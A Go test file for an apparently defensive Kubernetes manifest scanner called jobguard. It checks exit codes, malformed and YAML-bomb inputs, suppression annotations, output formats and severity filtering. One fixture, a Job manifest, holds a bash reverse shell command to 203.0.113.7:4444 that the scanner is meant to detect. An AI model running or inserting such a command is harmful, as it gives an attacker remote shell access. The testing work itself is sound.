package main

import (
	"bytes"
	"encoding/json"
	"os"
	"path/filepath"
	"strings"
	"testing"
)

// jobguard runs one command line in-process and returns the exit code, stdout and stderr.
func jobguard(t *testing.T, stdin string, args ...string) (int, string, string) {
	t.Helper()
	var out, errOut bytes.Buffer
	code := run(args, strings.NewReader(stdin), &out, &errOut)
	return code, out.String(), errOut.String()
}

type jsonReport struct {
	Findings []struct {
		Rule       string
		Severity   string
		Suppressed bool
		Resource   struct{ Kind, Namespace, Name, File string }
	}
	Summary struct {
		Resources, Findings, Suppressed, Errors int
		Incomplete                              bool
	}
}

func parseReport(t *testing.T, s string) jsonReport {
	t.Helper()
	var r jsonReport
	if err := json.Unmarshal([]byte(s), &r); err != nil {
		t.Fatalf("not JSON: %v\n%s", err, s)
	}
	return r
}

func write(t *testing.T, dir, name, content string) string {
	t.Helper()
	p := filepath.Join(dir, name)
	if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(p, []byte(content), 0o644); err != nil {
		t.Fatal(err)
	}
	return p
}

const reverseShellJob = `apiVersion: batch/v1
kind: Job
metadata: {name: x, namespace: ns}
spec:
  template:
    spec:
      restartPolicy: Never
      containers:
      - name: c
        image: alpine:3.20
        command: ["sh", "-c", "bash -i >& /dev/tcp/203.0.113.7/4444 0>&1"]
`

func TestScanExitCodes(t *testing.T) {
	dir := t.TempDir()
	risky := write(t, dir, "risky.yaml", reverseShellJob)
	tests := []struct {
		name     string
		args     []string
		stdin    string
		want     int
		inStderr string
	}{
		{"examples fail on high", []string{"scan", "../../examples"}, "", 1, ""},
		{"clean examples pass", []string{"scan", "../../examples/clean"}, "", 0, ""},
		{"fail-on none", []string{"scan", "--fail-on", "none", "../../examples"}, "", 0, ""},
		{"fail-on critical still fails on a reverse shell", []string{"scan", "--fail-on", "critical", risky}, "", 1, ""},
		{"stdin", []string{"scan", "-"}, reverseShellJob, 1, ""},
		{"unknown fail-on", []string{"scan", "--fail-on", "bogus", risky}, "", 2, `unknown severity "bogus"`},
		{"unknown output", []string{"scan", "-o", "xml", risky}, "", 2, `unknown output format "xml"`},
		{"unknown flag", []string{"scan", "--frobnicate", risky}, "", 2, "unknown flag: --frobnicate"},
		{"bad pss level", []string{"scan", "--pss-level", "strict", risky}, "", 2, `unknown level "strict"`},
		{"no input", []string{"scan"}, "", 2, "nothing to scan"},
		{"missing path", []string{"scan", filepath.Join(dir, "missing.yaml")}, "", 2, "missing.yaml"},
		{"stdin twice", []string{"scan", "-", "-"}, "", 2, "only once"},
		{"paths and cluster", []string{"scan", "--cluster", risky}, "", 2, "give no paths"},
		{"namespace without cluster", []string{"scan", "-n", "x", risky}, "", 2, "--cluster scans only"},
		{"unknown config key", []string{"scan", "--config", write(t, dir, "bad-config.yaml", "allowedRegistry: [x]\n"), risky}, "", 2, "allowedRegistry"},
		{"config names an unknown rule", []string{"scan", "--config", write(t, dir, "bad-rule.yaml", "rules: {disabled: [no-such-rule]}\n"), risky}, "", 2, `unknown rule "no-such-rule"`},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			code, _, stderr := jobguard(t, tt.stdin, tt.args...)
			if code != tt.want {
				t.Errorf("exit %d, want %d; stderr:\n%s", code, tt.want, stderr)
			}
			if !strings.Contains(stderr, tt.inStderr) {
				t.Errorf("stderr does not contain %q:\n%s", tt.inStderr, stderr)
			}
		})
	}
}

// Bad inputs: a clear message naming the input, exit 2, and the good inputs still reported.
func TestScanBadInputs(t *testing.T) {
	dir := t.TempDir()
	good := write(t, dir, "good.yaml", reverseShellJob)
	bin := filepath.Join(dir, "blob.yaml")
	if err := os.WriteFile(bin, []byte("\x00\x01\x02binary\xff\xfe"), 0o644); err != nil {
		t.Fatal(err)
	}
	bomb := write(t, dir, "bomb.yaml", "apiVersion: v1\nkind: ConfigMap\nmetadata: {name: b}\n"+
		"a: &a [x,x,x,x,x,x,x,x,x,x]\nb: &b [*a,*a,*a,*a,*a,*a,*a,*a,*a,*a]\nc: &c [*b,*b,*b,*b,*b,*b,*b,*b,*b,*b]\n"+
		"d: &d [*c,*c,*c,*c,*c,*c,*c,*c,*c,*c]\ne: &e [*d,*d,*d,*d,*d,*d,*d,*d,*d,*d]\nf: [*e,*e,*e,*e,*e,*e,*e,*e,*e,*e]\n")
	malformed := write(t, dir, "malformed.yaml", "apiVersion: v1\nkind: Pod\nmetadata:\n  name: x\nspec:\n  containers:\n  - name: a\n    image: [unclosed\n")
	empty := filepath.Join(dir, "empty")
	if err := os.Mkdir(empty, 0o755); err != nil {
		t.Fatal(err)
	}
	tests := []struct {
		name, input, inStderr string
	}{
		{"binary file", bin, "not a YAML or JSON file"},
		{"YAML bomb", bomb, "bomb.yaml:"},
		{"malformed YAML names the line", malformed, "malformed.yaml:8:"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			code, stdout, stderr := jobguard(t, "", "scan", "-o", "json", tt.input, good)
			if code != 2 {
				t.Errorf("exit %d, want 2", code)
			}
			if !strings.Contains(stderr, tt.inStderr) {
				t.Errorf("stderr does not contain %q:\n%s", tt.inStderr, stderr)
			}
			r := parseReport(t, stdout)
			if r.Summary.Errors != 1 || !r.Summary.Incomplete {
				t.Errorf("summary %+v: want 1 error, incomplete", r.Summary)
			}
			found := false
			for _, f := range r.Findings {
				found = found || (f.Rule == "exec-reverse-shell" && f.Resource.File == good)
			}
			if !found {
				t.Error("the good input was not scanned")
			}
		})
	}
	t.Run("directory with no manifests", func(t *testing.T) {
		code, _, stderr := jobguard(t, "", "scan", empty)
		if code != 2 || !strings.Contains(stderr, "no Kubernetes objects found") {
			t.Errorf("exit %d, stderr %q", code, stderr)
		}
	})
	t.Run("values.yaml is skipped, and said so with -v", func(t *testing.T) {
		values := write(t, dir, "chart/values.yaml", "replicas: 3\nimage: nginx\n")
		_, _, stderr := jobguard(t, "", "scan", "-v", "--fail-on", "none", values, good)
		if !strings.Contains(stderr, "values.yaml:1: skipped") {
			t.Errorf("stderr %q", stderr)
		}
	})
}

func TestScanLargeFile(t *testing.T) {
	if testing.Short() {
		t.Skip("writes a 50 MB file")
	}
	var b strings.Builder
	for i := 0; b.Len() < 50<<20; i++ {
		b.WriteString("---\napiVersion: apps/v1\nkind: Deployment\nmetadata: {name: d, namespace: big}\nspec:\n  template:\n    spec:\n      containers:\n      - name: app\n        image: registry.example.com/app:1@sha256:9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08\n        args: [\"")
		b.WriteString(strings.Repeat("x", 300))
		b.WriteString("\"]\n")
	}
	big := write(t, t.TempDir(), "big.yaml", b.String())
	code, stdout, stderr := jobguard(t, "", "scan", "-o", "json", "--fail-on", "none", big)
	if code != 0 {
		t.Fatalf("exit %d: %s", code, stderr)
	}
	if r := parseReport(t, stdout); r.Summary.Resources < 50000 {
		t.Errorf("scanned %d resources", r.Summary.Resources)
	}
}

func TestScanSuppression(t *testing.T) {
	dir := t.TempDir()
	annotated := strings.Replace(reverseShellJob, "metadata: {name: x, namespace: ns}",
		"metadata:\n  name: x\n  namespace: ns\n  annotations:\n    jobguard.io/ignore: \"*\"\n    jobguard.io/ignore-reason: incident drill", 1)
	file := write(t, dir, "annotated.yaml", annotated)
	code, stdout, _ := jobguard(t, "", "scan", "-o", "json", file)
	if code != 0 {
		t.Errorf("exit %d: suppressed findings must not fail the scan", code)
	}
	r := parseReport(t, stdout)
	if len(r.Findings) == 0 || r.Summary.Findings != 0 || r.Summary.Suppressed != len(r.Findings) {
		t.Fatalf("suppressed findings must stay in the report, marked: %+v", r.Summary)
	}
	for _, f := range r.Findings {
		if !f.Suppressed {
			t.Errorf("%s not marked suppressed", f.Rule)
		}
	}
	_, table, _ := jobguard(t, "", "scan", file)
	if !strings.Contains(table, "suppressed") {
		t.Errorf("the table does not count suppressed findings:\n%s", table)
	}
}

func TestScanFormats(t *testing.T) {
	for _, format := range []string{"table", "json", "sarif"} {
		t.Run(format, func(t *testing.T) {
			code, stdout, _ := jobguard(t, "", "scan", "-o", format, "--fail-on", "none", "../../examples")
			if code != 0 || stdout == "" {
				t.Fatalf("exit %d, %d bytes", code, len(stdout))
			}
			if format != "table" && !json.Valid([]byte(stdout)) {
				t.Error("not valid JSON")
			}
			if strings.Contains(stdout, "\x1b[") {
				t.Error("colour codes in output that is not a terminal")
			}
		})
	}
	out := filepath.Join(t.TempDir(), "report.sarif")
	if code, stdout, _ := jobguard(t, "", "scan", "-o", "sarif", "--output-file", out, "--fail-on", "none", "../../examples"); code != 0 || stdout != "" {
		t.Fatalf("--output-file: exit %d, stdout %q", code, stdout)
	}
	if b, err := os.ReadFile(out); err != nil || !bytes.Contains(b, []byte(`"version": "2.1.0"`)) {
		t.Errorf("report file: %v %.200s", err, b)
	}
}

const privilegedPod = `apiVersion: v1
kind: Pod
metadata: {name: p, namespace: ns}
spec:
  containers:
  - name: c
    image: registry.example.com/app@sha256:9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08
    securityContext: {privileged: true}
`

// --min-severity leaves lower findings out of every format, says how many, and never weakens
// --fail-on.
func TestScanMinSeverity(t *testing.T) {
	dir := t.TempDir()
	priv := write(t, dir, "priv.yaml", privilegedPod)
	tests := []struct {
		name         string
		args         []string
		want         int
		lowest       string // the lowest severity the JSON report may hold ("" when not JSON)
		inStdout     string
		inStderr     string
		notInStderr  string
		wantFindings int // -1: any
	}{
		{name: "default reports everything", args: []string{"scan", "-o", "json", "--fail-on", "none", priv},
			lowest: "info", wantFindings: -1, notInStderr: "not reported"},
		{name: "high and above", args: []string{"scan", "-o", "json", "--min-severity", "high", "--fail-on", "none", priv},
			lowest: "high", wantFindings: -1, inStderr: "below --min-severity high not reported"},
		{name: "a hidden high finding still fails --fail-on high", args: []string{"scan", "-o", "json", "--min-severity", "critical", priv},
			want: 1, lowest: "critical", wantFindings: 0, inStderr: "below --min-severity critical not reported"},
		{name: "table", args: []string{"scan", "--min-severity", "critical", "--fail-on", "none", priv},
			inStdout: "No findings", inStderr: "not reported"},
		{name: "sarif", args: []string{"scan", "-o", "sarif", "--min-severity", "critical", "--fail-on", "none", priv},
			inStdout: `"results": []`, inStderr: "not reported"},
		{name: "upper case", args: []string{"scan", "--min-severity", "HIGH", "--fail-on", "none", priv}, inStderr: "not reported"},
		{name: "none is not a level to report", args: []string{"scan", "--min-severity", "none", priv}, want: 2,
			inStderr: `--min-severity: unknown severity "none"`},
		{name: "unknown", args: []string{"scan", "--min-severity", "severe", priv}, want: 2,
			inStderr: `--min-severity: unknown severity "severe"`},
	}
	rank := map[string]int{"info": 1, "low": 2, "medium": 3, "high": 4, "critical": 5}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			code, stdout, stderr := jobguard(t, "", tt.args...)
			if code != tt.want {
				t.Fatalf("exit %d, want %d; stderr:\n%s", code, tt.want, stderr)
			}
			if !strings.Contains(stdout, tt.inStdout) {
				t.Errorf("stdout does not contain %q:\n%s", tt.inStdout, stdout)
			}
			if !strings.Contains(stderr, tt.inStderr) {
				t.Errorf("stderr does not contain %q:\n%s", tt.inStderr, stderr)
			}
			if tt.notInStderr != "" && strings.Contains(stderr, tt.notInStderr) {
				t.Errorf("stderr contains %q:\n%s", tt.notInStderr, stderr)
			}
			if tt.lowest == "" {
				return
			}
			r := parseReport(t, stdout)
			if tt.wantFindings >= 0 && len(r.Findings) != tt.wantFindings {
				t.Errorf("%d findings, want %d", len(r.Findings), tt.wantFindings)
			}
			if r.Summary.Findings != len(r.Findings) {
				t.Errorf("summary counts %d findings, the report has %d", r.Summary.Findings, len(r.Findings))
			}
			for _, f := range r.Findings {
				if rank[f.Severity] < rank[tt.lowest] {
					t.Errorf("finding %s is %s, below %s", f.Rule, f.Severity, tt.lowest)
				}
			}
		})
	}
}
